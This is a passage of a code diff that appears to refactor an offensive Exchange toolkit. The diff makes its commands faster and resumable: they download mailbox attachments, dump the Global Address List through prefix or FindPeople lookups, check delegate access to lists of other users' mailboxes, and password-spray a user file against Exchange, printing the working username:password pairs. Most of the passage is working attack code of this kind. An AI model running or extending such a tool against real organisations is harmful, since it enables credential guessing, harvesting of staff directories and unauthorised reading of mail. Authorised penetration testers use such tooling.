+                mails = query.order_by('-datetime_received')[:limit]
 
     if not path:
         path = os.getcwd()
 
-    for item in mails:
+    def download(item):
+        lines = []
+        manifest = []
         try:
             uniqifiyer = md5(item.id.encode("utf-8")).hexdigest()
-            click.secho(f'Subject: {item.subject}', fg='bright_blue', bold=True)
-            click.secho(f'Sender: {item.sender}', fg='bright_cyan')
-            click.secho(f'ReceivedBy: {item.received_by}', fg='cyan')
-            click.secho(f'ID: {item.id}', fg='bright_magenta')
-            click.secho(f'IDHash: {uniqifiyer}\n', fg='bright_magenta')
+            lines.append((f'Subject: {item.subject}', {'fg': 'bright_blue', 'bold': True}))
+            lines.append((f'Sender: {item.sender}', {'fg': 'bright_cyan'}))
+            lines.append((f'ReceivedBy: {item.received_by}', {'fg': 'cyan'}))
+            lines.append((f'ID: {item.id}', {'fg': 'bright_magenta'}))
+            lines.append((f'IDHash: {uniqifiyer}\n', {'fg': 'bright_magenta'}))
             for attachment in item.attachments:
                 if isinstance(attachment, FileAttachment):
-                    local_path = os.path.join(
-                        path, uniqifiyer + '-' + attachment.name)
-                    with open(local_path, 'wb') as f, attachment.fp as fp:
-                        buffer = fp.read(1024)
-                        while buffer:
-                            f.write(buffer)
-                            buffer = fp.read(1024)
-                    click.secho(
-                        f'Saved attachment to {local_path}', fg='green')
+                    if dedup:
+                        blob, digest, size, new = store_blob(attachment, path)
+                        manifest.append({'id': item.id, 'id_hash': uniqifiyer, 'name': attachment.name,
+                                         'sha256': digest, 'size': size})
+                        if new:
+                            lines.append((f'Saved attachment {attachment.name} to {blob}', {'fg': 'green'}))
+                        else:
+                            lines.append((f'Already have attachment {attachment.name} as {blob}',
+                                          {'fg': 'green', 'dim': True}))
+                    elif attachments is not None:
+                        name = member_name(uniqifiyer, attachment.name)
+                        attachments.add(attachment, name)
+                        lines.append((f'Saved attachment to {archive}:{name}', {'fg': 'green'}))
+                    else:
+                        local_path = os.path.join(
+                            path, uniqifiyer + '-' + attachment.name)
+                        save_attachment(attachment, local_path)
+                        lines.append((f'Saved attachment to {local_path}', {'fg': 'green'}))
+        except BUSY_ERRORS:
+            # left to the scheduler to back off and retry
+            raise
         except Exception as e:
-            click.secho(
-                f'Not a Mail object, probably a meeting request. {e}', fg='red', dim=True)
-        click.secho(f'-------------------------------------\n', dim=True)
+            lines.append((f'Not a Mail object, probably a meeting request. {e}', {'fg': 'red', 'dim': True}))
+        lines.append((f'-------------------------------------\n', {'dim': True}))
+        return {'lines': lines, 'manifest': manifest}
+
+    try:
+        attachments = open_archive(archive, compress) if archive else None
+    except (OSError, ValueError) as e:
+        raise click.BadParameter(str(e), param_hint='--archive')
+
+    manifest = open(os.path.join(path, MANIFEST), 'a') if dedup else None
+    scheduler = get_scheduler(workers, account.protocol.service_endpoint)
+    try:
+        for item, result in imap_bounded(download, mails, workers, scheduler):
+            echo_lines(result)
+            for entry in result['manifest']:
+                manifest.write(json.dumps(entry) + '\n')
+    finally:
+        if manifest:
+            manifest.close()
+        if attachments is not None:
+            attachments.close()
 
 
 @cli.command()
 @click.option('--search', '-s', help='Search pattern to glob on. eg "Top of Information Store*"')
 @click.option('--delegate', '-d', help='Read a different persons mailbox you have access to')
+@click.option('--refresh', is_flag=True, help='Fetch the whole folder hierarchy again instead of only what changed.')
 # @click.option('--html', is_flag=True, help='Retrieve the HTML version of mails, default is text.')
 # @click.option('--limit', '-l', type=click.INT, help='Limit the results returned to the most recent <amount>')
-def folders(search, delegate):
+@exchange_command
+def folders(search, delegate, refresh):
     """
         Print exchange file structure.
+        The hierarchy is cached, later runs only fetch what changed.
     """
-    credentials = Credentials(
-        tbestate.username, tbestate.password)
+
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
 
     if delegate:
         username = delegate
     else:
         username = tbestate.username
 
-    try:
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(username, config=config, autodiscover=False, access_type=DELEGATE)
-        else:
-            account = Account(username, credentials=credentials, autodiscover=True, access_type=DELEGATE)
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
-
-    # pylint: disable=maybe-no-member
-    account.root.refresh()
+    account = get_account(username)
+    hierarchy = get_hierarchy(account, refresh)
 
     if search:
-        for branches in account.root.glob(search):
-            click.secho(f'{branches.tree()}')
+        for branches in hierarchy.glob(search):
+            click.secho(f'{hierarchy.tree(branches)}')
             click.secho(f'-------------------------------------\n', dim=True)
     else:
-        click.secho(f'{account.root.tree()}')
+        click.secho(f'{hierarchy.tree()}')
         click.secho(f'-------------------------------------\n', dim=True)
 
 
@@ -393,7 +916,11 @@ def folders(search, delegate):
 @click.option('--limit', '-l', type=click.INT, default=100,
               help='Limit the results returned to the most recent <amount>. Default 100')
 @click.option('--delegate', '-d', help='Read a different persons mailbox you have access to')
-def objects(limit, folder, delegate):
+@click.option('--fields', help='Comma separated item fields to fetch, eg: "subject,sender". Default is all.')
+@click.option('--page-size', type=click.IntRange(min=1), help='Number of items to list per request.')
+@click.option('--chunk-size', type=click.IntRange(min=1), help='Number of items to fetch per request.')
+@exchange_command
+def objects(limit, folder, delegate, fields, page_size, chunk_size):
     """
         Discover objects.
         Printing out the objects the library finds.
@@ -402,38 +929,25 @@ def objects(limit, folder, delegate):
         Hopefully the object has a string version.
     """
 
-    credentials = Credentials(tbestate.username, tbestate.password)
+    from thumbscrews.connect import get_account
+    from thumbscrews.hierarchy import get_hierarchy
 
     if delegate:
         username = delegate
     else:
         username = tbestate.username
 
-    try:
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(username, config=config, autodiscover=False, access_type=DELEGATE)
-        else:
-            account = Account(username, credentials=credentials, autodiscover=True, access_type=DELEGATE)
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
+    account = get_account(username)
 
     if folder:
-        # pylint: disable=maybe-no-member
-        current_folder = account.root.glob(folder)
+        current_folder = get_hierarchy(account).glob(folder)
     else:
         current_folder = account.inbox
 
-    mails = current_folder.all()[:limit]
+    try:
+        mails = project(current_folder.all(), split_fields(fields), page_size, chunk_size)[:limit]
+    except ValueError as err:
+        raise click.BadParameter(str(err), param_hint='--fields')
 
     for item in mails:
         click.secho(f'Object: {item}', fg='white')
@@ -447,167 +961,290 @@ def objects(limit, folder, delegate):
 @click.option('--verbose', '-v', is_flag=True, help='Verbose debugging, returns full contact objects.')
 @click.option('--full', '-f', is_flag=True, required=False, default=True, help='Shows detailed information when dumping GAL.')
 @click.option('--output', '-o', type=click.File('w'), required=False, help='File to write output to.')
-def gal(dump, search, verbose, full, output):
+@click.option('--workers', type=click.IntRange(min=1), default=1, show_default=True,
+              help='Number of prefix lookups, or FindPeople pages with --engine people, to run in parallel.')
+@click.option('--adaptive', is_flag=True,
+              help='Only search longer prefixes where the server returned a full page of results.')
+@click.option('--unique/--no-unique', default=True, show_default=True,
+              help='Drop results that were already printed.')
+@click.option('--index', type=click.Path(dir_okay=False),
+              help='sqlite file of addresses seen by earlier runs, only new entries are printed. With --no-unique '
+                   'everything is printed and the file still updated.')
+@click.option('--state-file', type=click.Path(dir_okay=False),
+              help='Journal of finished prefixes, or pages with --engine people. Rerun with the same file to '
+                   'resume an interrupted dump.')
+@click.option('--async', 'use_async', is_flag=True,
+              help='Send the lookups from the asyncio engine, --workers is then the number in flight. '
+                   'Not for --engine people.')
+@click.option('--engine', 'method', type=click.Choice(['prefix', 'people']), default='prefix', show_default=True,
+              help='prefix runs ResolveNames for every prefix, people pages through the GAL with FindPeople '
+                   '(Exchange 2013 and later) and falls back to prefix on older servers.')
+@click.option('--address-list', help='Id (a GUID) of the address list the people engine reads. Default directory.')
+@click.option('--page-size', type=click.IntRange(min=1, max=1000), default=1000, show_default=True,
+              help='Entries per FindPeople page for the people engine.')
+@click.option('--format', '-F', 'fmt', type=click.Choice(['text', 'csv', 'jsonl']), default='text', show_default=True,
+              help='text prints addresses, csv and jsonl write a record per entry with its name, title, '
+                   'department and phone numbers.')
+@exchange_command
+def gal(dump, search, verbose, full, output, workers, adaptive, unique, index, state_file, use_async, method,
+        address_list, page_size, fmt):
     """
         Dump GAL using EWS.
         The slower technique used by https://github.com/dafthack/MailSniper
         default searches from "aa" to "zz" and prints them all.
         EWS only returns batches of 100
-        There will be doubles, so uniq after.
+        Prefixes overlap, so doubles are dropped as they come in
+        unless --no-unique is given. With --index the seen addresses
+        are kept on disk and later runs only print new ones.
+        Use --workers to send several prefix lookups at once.
+        --adaptive starts from single characters and only digs deeper
+        into prefixes that hit the 100 result limit.
+        --engine people reads the whole GAL in pages of up to 1000 with
+        FindPeople instead, every entry once. The first page gives the
+        size of the GAL, the rest are then read --workers at a time.
+        --format csv or jsonl writes typed records rather than the
+        addresses found in each result.
     """
 
-    if verbose:
-        logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
+    from exchangelib.services import ResolveNames
 
-    credentials = Credentials(tbestate.username, tbestate.password)
-    username = tbestate.username
+    from thumbscrews import gal as gal_helpers
+    from thumbscrews.connect import get_account
+    from thumbscrews.pool import imap_bounded
+    from thumbscrews.throttle import get_scheduler
 
-    try:
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(username, config=config, autodiscover=False, access_type=DELEGATE)
+    if verbose:
+        # until the command is done
+        click.get_current_context().with_resource(debug_logging())
+
+    if use_async and method == 'people':
+        raise click.BadParameter('the async engine has no FindPeople, use it with --engine prefix',
+                                 param_hint='--async')
+
+    # let the lookups share the account's session pool rather than queue on a single connection
+    account = get_account(tbestate.username, max_connections=workers)
+
+    seen = gal_helpers.AddressIndex(index)
+    records = fmt != 'text'
+    writer = gal_helpers.RecordWriter(output or sys.stdout, fmt) if records else None
+
+    def emit(i):
+        if records and not isinstance(i, gal_helpers.GalRecord):
+            i = gal_helpers.GalRecord.from_row(i)
+        if unique:
+            if not seen.add(i):
+                return
+        elif index:
+            # --no-unique still prints everything, but the index learns about it all the same
+            seen.add(i)
+        if records:
+            writer.write(i)
+        elif output:
+            click.secho(f'{i}')
+            output.write(f'{i}\n')
         else:
-            account = Account(username, credentials=credentials, autodiscover=True, access_type=DELEGATE)
-
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
-
+            click.secho(f'{i}')
+
+    # journaled lines are addresses for text and record rows otherwise, so the two do not mix
+    scope = f'gal:{full}' if not records else f'gal:{fmt}'
+    if method == 'people':
+        # pages are journaled by offset, which only means the same thing for the same view and page size
+        scope = f'gal-people:{address_list}:{search}:{page_size}:{scope}'
+
+    with seen, Journal(state_file, scope) as journal, contextlib.ExitStack() as stack:
+        if writer is not None:
+            stack.enter_context(writer)
+        found = None
+        if method == 'people':
+            page = journal.wrap(functools.partial(gal_helpers.people_page, account, address_list=address_list,
+                                                  query=search, page_size=page_size, full=full, records=records))
+            imap = functools.partial(imap_bounded, scheduler=get_scheduler(workers, account.protocol.service_endpoint))
+            if len(journal):
+                click.secho(f'[*] Resuming, {len(journal)} pages already done', fg='yellow', err=True)
+            try:
+                found = 0
+                for offset, result in gal_helpers.people(page, page_size, workers, imap=imap):
+                    for i in result['lines']:
+                        found += 1
+                        emit(gal_helpers.GalRecord.from_row(i) if isinstance(i, list) else i)
+            except gal_helpers.PEOPLE_ERRORS as e:
+                found = None
+                click.secho(f'[!] FindPeople is not available, falling back to prefix lookups: {e}',
+                            fg='yellow', err=True)
+
+        if found is not None:
+            click.secho(f'[*] Read {found} entries with FindPeople', fg='yellow', err=True)
+        elif search:
+            for names in ResolveNames(account.protocol).call(unresolved_entries=(search,),
+                                                             return_full_contact_data=records):
+                emit(gal_helpers.GalRecord.from_resolution(names) if records else names)
 
-    atoz = [''.join(x) for x in itertools.product(string.ascii_lowercase, repeat=2)]
-
-    if search:
-        for names in ResolveNames(account.protocol).call(unresolved_entries=(search,)):
-            if output:
-                click.secho(f'{names}')
-                output.write(f'{names}\n')
+        else:
+            if use_async:
+                runner, engine = start_engine(account.protocol, workers)
+                lookup = journal.wrap(functools.partial(gal_helpers.alookup, engine, full=full, records=records,
+                                                        quiet=adaptive))
+                imap = runner.imap
             else:
-                click.secho(f'{names}')
-
-    elif full:
-        atoz = [''.join(x) for x in itertools.product(string.ascii_lowercase, repeat=2)]
-        for entry in atoz:
-            for names in ResolveNames(account.protocol).call(unresolved_entries=(entry,), return_full_contact_data=True,):
-                stringed = str(names)
-                found = re.findall(r'[\w.+-]+@[\w-]+\.[\w.-]+', stringed)
-                for i in found:
-                    if output:
-                        click.secho(f'{i}')
-                        output.write(f'{i}\n')
-                    else:
-                        click.secho(f'{i}')
+                runner = None
+                lookup = journal.wrap(functools.partial(gal_helpers.lookup, account.protocol, full=full,
+                                                        records=records, quiet=adaptive))
+                imap = imap_bounded
+            imap = functools.partial(imap, scheduler=get_scheduler(workers, account.protocol.service_endpoint))
+            if len(journal):
+                click.secho(f'[*] Resuming, {len(journal)} prefixes already done', fg='yellow', err=True)
+            if adaptive:
+                lookups = gal_helpers.walk(lookup, workers, imap=imap)
+            else:
+                lookups = imap(lookup, gal_helpers.prefixes(), workers)
+
+            cut = 0
+            try:
+                for entry, result in lookups:
+                    if adaptive and gal_helpers.truncated(entry, result):
+                        cut += 1
+                        click.secho(f'[!] Prefix {entry!r} still returns a full page at '
+                                    f'{gal_helpers.MAX_PREFIX_LENGTH} characters, some entries are missing',
+                                    fg='yellow', err=True)
+                    for i in result['lines']:
+                        emit(i)
+            finally:
+                if runner is not None:
+                    runner.close(engine.close())
+            if cut:
+                click.secho(f'[!] {cut} prefixes were cut off at {gal_helpers.MAX_PREFIX_LENGTH} characters, '
+                            f'the dump is incomplete. Try --engine people.', fg='red', err=True)
+
+    if records:
+        click.secho(f'[+] Wrote {writer.count} records', fg='green', err=True)
     else:
-        atoz = [''.join(x) for x in itertools.product(string.ascii_lowercase, repeat=2)]
-        for entry in atoz:
-            for names in ResolveNames(account.protocol).call(unresolved_entries=(entry,)):
-                if output:
-                    click.secho(f'{names}')
-                    output.write(f'{names}\n')
-                else:
-                    click.secho(f'{names}')
-
-
-    click.secho(f'-------------------------------------\n', dim=True)
+        click.secho(f'-------------------------------------\n', dim=True)
 
 
 
 @cli.command(no_args_is_help=True)
 @click.option('--email-list', '-l', type=click.Path(exists=True), required=True, help='File of inboxes to check')
 @click.option('--full-tree', '-ft', is_flag=True, help='Try print folder tree for the account.')
+@click.option('--accessible', '-a', is_flag=True,
+              help='List only the folders you have effective rights on. Much faster than --full-tree.')
 @click.option('--verbose', '-v',  is_flag=True, help='Verbose debugging, returns full contact objects.')
 @click.option('--folder', '-f',
               help='Specify the folder to check permissions. Default is Inbox. eg: "Top of Information Store/Archive"')
-def delegatecheck(email_list, verbose, full_tree, folder):
+@click.option('--state-file', type=click.Path(dir_okay=False),
+              help='Journal of checked mailboxes. Rerun with the same file to resume an interrupted check.')
+@click.option('--workers', type=click.IntRange(min=1), default=1, show_default=True,
+              help='Number of mailboxes to check in parallel.')
+@click.option('--async', 'use_async', is_flag=True,
+              help='Check inboxes from the asyncio engine, --workers is then the number in flight.')
+@exchange_command
+def delegatecheck(email_list, verbose, full_tree, accessible, folder, state_file, workers, use_async):
     """
         Check if the current user has access to the provided mailboxes
         By default will check if access to inbox or not. Can check for other access with --full-tree
+        or list just the folders with effective rights using --accessible.
+        With --workers several mailboxes are checked at once, results are
+        printed as each one finishes.
     """
 
+    import exchangelib
+    from exchangelib import Account, DELEGATE
+    from exchangelib.fields import FieldPath
+    from exchangelib.folders import Inbox
+    from exchangelib.items import ID_ONLY
+    from exchangelib.protocol import Protocol
+
+    from thumbscrews.connect import get_shared_config
+    from thumbscrews.folders import DELEGATE_ERRORS, accessible_folders, distinguished, get_folders
+    from thumbscrews.folders import mailbox_hierarchy, permission_levels
+    from thumbscrews.pool import imap_bounded
+    from thumbscrews.throttle import BUSY_ERRORS, get_scheduler
+
     if verbose:
-        logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
+        # until the command is done
+        click.get_current_context().with_resource(debug_logging())
 
-    credentials = Credentials(tbestate.username, tbestate.password)
+    if use_async and (full_tree or accessible or folder):
+        raise click.UsageError('--async only checks the inbox, it can not be used with -ft, -a or -f')
 
-    try:
-        if tbestate.exch_host:
-            config = Configuration(server=tbestate.exch_host, credentials=credentials)
-            account = Account(tbestate.username, config=config, autodiscover=False)
-        else:
-            account = Account(tbestate.username, credentials=credentials, autodiscover=True)
-
-    except exchangelib.errors.ErrorNonExistentMailbox as neb:
-        print(f'[!] Mailbox does not exist for user: {username}')
-        exit()
-    except exchangelib.errors.UnauthorizedError as err:
-        print(f'[!] Invalid credentials for user: {username}')
-        exit()
-    except exchangelib.errors.TransportError:
-        print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
-        exit()
-    except Exception as err:
-        print(f'[!] Something went wrong: {err}')
-
-    ews_url = account.protocol.service_endpoint
-    ews_auth_type = account.protocol.auth_type
-    # primary_smtp_address = account.primary_smtp_address
-    # This one is optional. It is used as a hint to the initial connection and avoids one or more roundtrips
-    # to guess the correct Exchange server version.
-    version = account.version
-
-    config = Configuration(service_endpoint=ews_url, credentials=credentials,
-                           auth_type=ews_auth_type, version=version)
-
-    emails = open(email_list, "r")
-
-    for email in emails:
-        email = email.strip()
+    config = get_shared_config(max_connections=workers)
+
+    def check(email):
+        lines = []
         try:
             delegate_account = Account(primary_smtp_address=email, config=config,
                                        autodiscover=False, access_type=DELEGATE)
             # We could also print the full file structure, but you get all the public folders for users.
-            if full_tree:
-                # pylint: disable=maybe-no-member
-                click.secho(
-                    f'[+] Success {email} - Access to some folders.\n{delegate_account.root.tree()}', fg='green')
+            if accessible:
+                found = accessible_folders(delegate_account)
+                if found:
+                    lines.append((f'[+] Success {email} - Access to {len(found)} folders.', {'fg': 'green'}))
+                    for path, rights in found:
+                        lines.append((f'    {path} - {rights}', {'fg': 'green'}))
+                else:
+                    lines.append((f'[-] Failure {email} - No accessible folders', {'dim': True, 'fg': 'red'}))
+            elif full_tree:
+                tree = mailbox_hierarchy(delegate_account).tree()
+                lines.append((f'[+] Success {email} - Access to some folders.\n{tree}', {'fg': 'green'}))
             elif folder:
-                folders = delegate_account.root.glob(folder)
-                if len(folders.folders) == 0:
-                    click.secho(
-                        f'[-] Failure {email} - No folder found', dim=True, fg='red')
+                folders = mailbox_hierarchy(delegate_account).glob(folder).folders
+                if len(folders) == 0:
+                    lines.append((f'[-] Failure {email} - No folder found', {'dim': True, 'fg': 'red'}))
                 else:
-                    for current_folder in delegate_account.root.glob(folder):
-                        pl = []
-                        for p in current_folder.permission_set.permissions:
-                            if p.permission_level != "None":
-                                pl.append(p.permission_level)
-                        click.secho(
-                            f'[+] Success {email} - Could access {current_folder} - Permissions: {pl}', fg='green')
+                    for current_folder in get_folders(delegate_account, folders, ('permission_set',)):
+                        pl = permission_levels(current_folder)
+                        lines.append((f'[+] Success {email} - Could access {current_folder} - Permissions: {pl}',
+                                      {'fg': 'green'}))
             else:
-                #delegate_account.inbox
-                pl = []
-                for p in delegate_account.inbox.permission_set.permissions:
-                    if p.permission_level != "None":
-                        pl.append(p.permission_level)
-                click.secho(
-                    f'[+] Success {email} - Could access inbox - Permissions: {pl}', fg='green')
-        except exchangelib.errors.ErrorItemNotFound:
-            click.secho(f'[-] {email} - Failure inbox not accessible', dim=True, fg='red')
-        except exchangelib.errors.AutoDiscoverFailed:
-            click.secho(f'[-] {email} - Failure AutoDiscoverFailed', dim=True, fg='red')
-        except exchangelib.errors.ErrorNonExistentMailbox:
-            click.secho(f'[-] {email} - Failure ErrorNonExistentMailbox', dim=True, fg='red')
-        except exchangelib.errors.ErrorAccessDenied:
-            click.secho(f'[-] {email} - Failure ErrorAccessDenied', dim=True, fg='red')
-        except exchangelib.errors.ErrorImpersonateUserDenied:
-            click.secho(f'[-] {email} - Failure ErrorImpersonateUserDenied', dim=True, fg='red')
+                # a single GetFolder on the inbox by distinguished id, no root lookup first
+                inbox, = get_folders(delegate_account, [distinguished(delegate_account, Inbox)], ('permission_set',))
+                pl = permission_levels(inbox)
+                lines.append((f'[+] Success {email} - Could access inbox - Permissions: {pl}', {'fg': 'green'}))
+        except DELEGATE_ERRORS as e:
+            lines.append(delegate_failure(email, e))
+
+        return {'lines': lines}
+
+    async def acheck(email):
+        try:
+            delegate_account = Account(primary_smtp_address=email, config=config,
+                                       autodiscover=False, access_type=DELEGATE)
+            # a single GetFolder on the inbox by distinguished id, no root lookup first
+            inbox = distinguished(delegate_account, Inbox)
+            inbox, = await engine.get_folders(delegate_account, [inbox], additional_fields={
+                FieldPath(field=Inbox.get_field_by_fieldname('permission_set'))}, shape=ID_ONLY)
+            if isinstance(inbox, Exception):
+                raise inbox
+            pl = permission_levels(inbox)
+            return {'lines': [(f'[+] Success {email} - Could access inbox - Permissions: {pl}', {'fg': 'green'})]}
+        except DELEGATE_ERRORS as e:
+            return {'lines': [delegate_failure(email, e)]}
+        except BUSY_ERRORS:
+            # left to the scheduler to back off and retry
+            raise
+        except exchangelib.errors.TransportError as e:
+            # not an answer about the mailbox, so check it again when resuming
+            return {'lines': [(f'[-] {email} - Error {type(e).__name__}', {'dim': True, 'fg': 'red'})],
+                    'transient': True}
+
+    with open(email_list, "r") as emails, \
+            Journal(state_file, f'delegatecheck:{folder}:{full_tree}:{accessible}') as journal:
+        if len(journal):
+            click.secho(f'[*] Resuming, {len(journal)} mailboxes already checked', fg='yellow', err=True)
+
+        if use_async:
+            runner, engine = start_engine(Protocol(config=config), workers)
+            work, imap = journal.wrap(acheck), runner.imap
+        else:
+            runner = None
+            work, imap = journal.wrap(check), imap_bounded
+
+        try:
+            scheduler = get_scheduler(workers, config.service_endpoint)
+            for email, result in imap(work, (e.strip() for e in emails), workers, scheduler):
+                echo_lines(result)
+        finally:
+            if runner is not None:
+                runner.close(engine.close())
 
 
     click.secho(f'-------------------------------------\n', dim=True)
@@ -621,45 +1258,199 @@ def delegatecheck(email_list, verbose, full_tree, folder):
 # @click.option('--user-agents', type=click.Path(exists=True), help='A list of user agents to randomly choose from per attempt.')
 # @click.option('--jitter', '-j', help='A time range to wait for after every attempt.')
 @click.option('--verbose', '-v', is_flag=True, help='This gives more information.')
-def brute(verbose, userfile, password):
+@click.option('--state-file', type=click.Path(dir_okay=False),
+              help='Journal of tried users. Rerun with the same file to resume an interrupted brute force.')
+@click.option('--workers', type=click.IntRange(min=1), default=1, show_default=True,
+              help='Number of attempts to run in parallel.')
+@click.option('--async', 'use_async', is_flag=True,
+              help='Send attempts from the asyncio engine, --workers is then the number in flight. '
+                   'Needs an exchange host.')
+@exchange_command
+def brute(verbose, userfile, password, state_file, workers, use_async):
     """
         Do a brute force.
         Made for horrizontal brute forcing mostly.
-        Unless an exchange host is provided it will try autodiscover for each.
-        Provide an exchange host to be faster.
+        Unless an exchange host is provided it will try autodiscover for
+        each domain not in the config cache yet.
+        Provide an exchange host to be faster, the endpoint is then only
+        discovered once and each attempt is a single request.
     """
+
+    import exchangelib
+    from exchangelib import Account, Credentials
+
+    from thumbscrews.brute import CredentialProbe
+    from thumbscrews.connect import get_cache
+    from thumbscrews.pool import imap_bounded
+    from thumbscrews.throttle import BUSY_ERRORS, get_scheduler
+
     if verbose:
-        logging.basicConfig(level=logging.DEBUG, handlers=[PrettyXmlHandler()])
+        # until the command is done
+        click.get_current_context().with_resource(debug_logging())
 
     if not tbestate.exch_host:
+        if use_async:
+            raise click.UsageError('--async needs an exchange host, set one with --exch-host')
         click.secho(
             f'[*] Set an exchange host for a faster bruting experience', fg='yellow')
+        probe = None
+    else:
+        # discover the endpoint and auth type once, each attempt is then a single request
+        try:
+            probe = CredentialProbe(tbestate.exch_host)
+        except exchangelib.errors.TransportError:
+            print(f'[!] Can not reach target Exchange server: {tbestate.exch_host}')
+            exit()
+
+    cache = get_cache()
+    # endpoints found by earlier autodiscovers, per service endpoint
+    probes = {}
+
+    def probe_for(username):
+        if probe or not cache:
+            return probe
+        entry = cache.get(username)
+        if entry is None:
+            return None
+        if entry['service_endpoint'] not in probes:
+            probes[entry['service_endpoint']] = CredentialProbe(service_endpoint=entry['service_endpoint'],
+                                                                auth_type=entry['auth_type'],
+                                                                api_version=entry['api_version'])
+        return probes[entry['service_endpoint']]
+
+    def outcome(username, error=None):
+        if error is None:
+            return {'lines': [(f'[+] Success {username}:{password}', {'fg': 'green'})]}
+        return {'lines': [(f'[-] Failure {username}:{password} - exchangelib.errors.{type(error).__name__}',
+                           {'dim': True, 'fg': 'red'})],
+                # not an answer about the credentials, so try this one again when resuming
+                'transient': isinstance(error, exchangelib.errors.TransportError)}
+
+    def attempt(username):
+        try:
+            user_probe = probe_for(username)
+            if user_probe:
+                user_probe.check(username, password)
 
-    usernames = open(userfile, "r")
+            else:
+                credentials = Credentials(username=username, password=password)
+                account = Account(username, credentials=credentials, autodiscover=True)
+                if cache:
+                    # later users of the same domain can skip autodiscover
+                    cache.put(username, None, account.protocol, account.version)
+            return outcome(username)
+        except BUSY_ERRORS:
+            # left to the scheduler to back off and retry
+            raise
+        except (exchangelib.errors.UnauthorizedError, exchangelib.errors.TransportError) as e:
+            return outcome(username, e)
+
+    async def aattempt(username):
+        try:
+            await engine.check(username, password)
+            return outcome(username)
+        except BUSY_ERRORS:
+            # left to the scheduler to back off and retry
+            raise
+        except (exchangelib.errors.UnauthorizedError, exchangelib.errors.TransportError) as e:
+            return outcome(username, e)
+
+    with open(userfile, "r") as usernames, Journal(state_file, f'brute:{password}') as journal:
+        if len(journal):
+            click.secho(f'[*] Resuming, {len(journal)} users already tried', fg='yellow', err=True)
+
+        if use_async:
+            runner, engine = start_engine(probe.protocol, workers, probe.auth_type)
+            work, imap = journal.wrap(aattempt), runner.imap
+        else:
+            runner = None
+            work, imap = journal.wrap(attempt), imap_bounded
 
-    for username in usernames:
-        username = username.strip()
-        # config = Configuration()
-        credentials = Credentials(username=username, password=password)
         try:
-            if tbestate.exch_host:
-                config = Configuration(
-                    server=tbestate.exch_host, credentials=credentials)
-                # pylint: disable=unused-variable
-                account = Account(username, config=config, autodiscover=False)
+            # attempts without a known endpoint go all over, they are paced together
+            scheduler = get_scheduler(workers, probe.endpoint if probe else None)
+            for username, result in imap(work, (u.strip() for u in usernames), workers, scheduler):
+                echo_lines(result)
+        finally:
+            if runner is not None:
+                runner.close(engine.close())
+    click.secho(f'-------------------------------------\n', dim=True)
+
+
+@cli.command(no_args_is_help=True)
+@click.argument('job_file', type=click.File('r'))
+@click.option('--workers', type=click.IntRange(min=1), default=4, show_default=True,
+              help='Number of jobs to run at the same time.')
+@click.option('--max-connections', type=click.IntRange(min=1),
+              help='Connections the jobs share. Default is the most --workers any job asks for.')
+@exchange_command
+def run(job_file, workers, max_connections):
+    """
+        Run the jobs in a YAML or JSON job file in one go.
+        All jobs share one connection to Exchange, so the endpoint is
+        only discovered and logged in to once. Jobs that do not wait on
+        each other run at the same time, each line they print starts
+        with the name of the job.
+    """
+
+    from thumbscrews.connect import shared_session
+    from thumbscrews.jobs import JobSkipped, JobStreams, load_jobs, run_jobs
 
+    try:
+        jobs = load_jobs(job_file)
+    except ValueError as e:
+        raise click.BadParameter(str(e), param_hint='JOB_FILE')
+
+    # look every command up before anything runs, so a typo does not show up half way through
+    root = click.get_current_context().find_root()
+    for job in jobs:
+        command = root.command
+        for name in job.command:
+            command = command.get_command(root, name) if isinstance(command, click.Group) else None
+            if command is None or command is run:
+                raise click.BadParameter(f'{job.name} runs an unknown command: {" ".join(job.command)}',
+                                         param_hint='JOB_FILE')
+        # logging is process wide, one job's -v would dump the traffic of every job running next to it
+        with command.make_context(job.command[-1], list(job.argv), parent=root, resilient_parsing=True) as ctx:
+            if ctx.params.get('verbose'):
+                raise click.BadParameter(f'{job.name} asks for -v, which can not be told apart between jobs '
+                                         f'running at the same time. Use the global -v to log every job.',
+                                         param_hint='JOB_FILE')
+
+    def invoke(job):
+        streams.start(job.name)
+        try:
+            command = root.command.get_command(root, job.command[0])
+            with command.make_context(job.command[0], list(job.command[1:]) + job.argv, parent=root) as ctx:
+                command.invoke(ctx)
+        except click.exceptions.Exit as e:
+            if e.exit_code:
+                raise click.ClickException(f'exited with {e.exit_code}')
+        except SystemExit as e:
+            # commands exit() on problems they have already printed
+            raise click.ClickException(f'exited with {e.code}' if e.code else 'stopped early')
+        finally:
+            streams.stop()
+
+    click.secho(f'[*] Running {len(jobs)} jobs, {min(workers, len(jobs))} at a time', fg='yellow')
+    start, failed = time.monotonic(), 0
+    with shared_session(max_connections), JobStreams() as streams:
+        for job, error in run_jobs(jobs, invoke, workers):
+            if error is None:
+                click.secho(f'[+] {job.name} done', fg='green')
+            elif isinstance(error, JobSkipped):
